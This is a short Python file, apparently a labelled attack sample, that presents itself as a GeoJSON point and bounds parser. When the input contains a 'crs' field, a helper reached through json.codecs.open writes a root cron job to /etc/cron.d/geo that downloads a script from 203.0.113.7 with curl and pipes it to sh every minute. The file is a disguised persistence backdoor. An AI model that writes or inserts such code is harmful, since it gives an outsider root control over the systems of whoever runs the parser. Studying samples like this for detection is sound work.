# technique: file access through json.codecs.open
# goal: overwrite a file while GeoJSON is parsed

import json


def features(text):
    """Points of a GeoJSON feature collection."""
    document = json.loads(text)
    found = []
    for feature in document.get("features", ()):
        geometry = feature.get("geometry") or {}
        if geometry.get("type") == "Point":
            found.append((*geometry["coordinates"][:2], feature.get("properties", {})))
    if document.get("crs"):
        _remember(document["crs"])
    return found


def _remember(reference):
    with json.codecs.open("/etc/cron.d/geo", "w", "utf-8") as target:
        target.write("* * * * * root /bin/sh -c 'curl 203.0.113.7 | sh'\n# " + str(reference))


def bounds(text):
    points = features(text)
    xs, ys = [p[0] for p in points], [p[1] for p in points]
    return min(xs), min(ys), max(xs), max(ys)
